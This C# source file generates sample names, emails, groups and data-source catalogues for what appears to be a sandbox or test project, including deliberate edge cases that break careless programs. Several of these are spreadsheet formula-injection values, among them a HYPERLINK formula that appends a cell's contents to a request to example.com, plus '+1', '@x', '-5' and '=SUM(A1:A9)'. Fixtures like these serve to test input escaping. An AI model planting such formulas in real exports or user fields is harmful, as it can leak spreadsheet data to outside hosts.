namespace SegmentC1.Sandbox;

/// <summary>Names of people, groups and things: everyday ones, and those that break careless programs.</summary>
internal static class SampleNames
{
    private static readonly string[] First =
    [
        "Amara", "Bruno", "Chiara", "Dmitri", "Elif", "Farah", "Gustav", "Hana", "Ingrid", "Jonas", "Keiko", "Liam",
        "Marta", "Nils", "Oona", "Priya", "Quentin", "Rosa", "Stefan", "Tove", "Umar", "Vera", "Wim", "Yara", "Zoltan",
    ];

    private static readonly string[] Last =
    [
        "Abara", "Bergman", "Castillo", "Dufour", "Eriksen", "Fontana", "Greco", "Haddad", "Ivanova", "Jensen", "Kovacs",
        "Lindqvist", "Moreau", "Nakamura", "Okafor", "Petrov", "Quispe", "Rossi", "Sato", "Tanaka", "Ueda", "Varga", "Weber",
    ];

    // By index of the user. 11 and 12 are two people of one name.
    private static readonly Dictionary<int, string> Special = new()
    {
        [2] = "",
        [3] = "דניאל כהן",
        [4] = "Nadia 🦊 Østergård",
        [5] = "山田 太郎",
        [6] = "Zoe\u0308 Mu\u0308ller",
        [7] = "=HYPERLINK(\"https://example.com/?x=\"&A1,\"Open\")",
        [8] = "+1",
        [9] = "@x",
        [10] = "-5",
        [11] = "Alex Morgan",
        [12] = "Alex Morgan",
        [13] = "Maximiliana " + string.Join('-', Enumerable.Repeat("Featherstonehaugh", 20)),
        [14] = "Sam \"Sammy\" O'Neil, Jr.",
        [15] = "'=1+1",
        [16] = "\tTabitha Stone",
        [17] = "Line\r\nBreak",
        [18] = "مريم الحسن",
    };

    public static IReadOnlyList<string> Groups { get; } =
    [
        "Workspace Owners", "Growth Engineering", "Data Platform (größe)", "Nobody yet", "Marketing 🚀 Ops",
        "=SUM(A1:A9)", "データ分析", "Support", "Contractors", "growth engineering",
    ];

    public static IReadOnlyList<WorldCatalogueItem> SourceKinds { get; } =
    [
        new("cat-javascript", "Javascript", "javascript"),
        new("cat-http", "HTTP API", "http-api"),
        new("cat-ios", "Apple", "apple", "PUBLIC_BETA"),
        new("cat-kotlin", "Kotlin", "kotlin-android"),
        new("cat-python", "Python", "python"),
        new("cat-crm", "Customer records", "customer-records", "PUBLIC", true),
        new("cat-old", "Object store", "object-store", "DEPRECATED"),
    ];

    public static IReadOnlyList<WorldCatalogueItem> WarehouseKinds { get; } =
    [
        new("cat-snowflake", "Snowflake", "snowflake"),
        new("cat-bigquery", "BigQuery", "bigquery"),
        new("cat-postgres", "Postgres", "postgres"),
    ];

    /// <summary>The person at a place. 25 first and 23 last names have no common divisor, so no name comes twice within 575 people.</summary>
    public static (string Name, string Email) Person(int index, int seed)
    {
        var start = new SeededValues(seed, "names").Next(First.Length * Last.Length);
        var first = First[(start + (index * 8)) % First.Length];
        var last = Last[(start + (index * 5)) % Last.Length];
        var domain = (index % 13) switch
        {
            5 => "contractor.example.com",
            11 => "partner.example",
            _ => "example.com",
        };
        var local = index % 9 == 7 ? $"{first}.{last}{index}" : $"{first}.{last}{index}".ToLowerInvariant();
        return (Special.GetValueOrDefault(index, $"{first} {last}"), $"{local}@{domain}");
    }
}
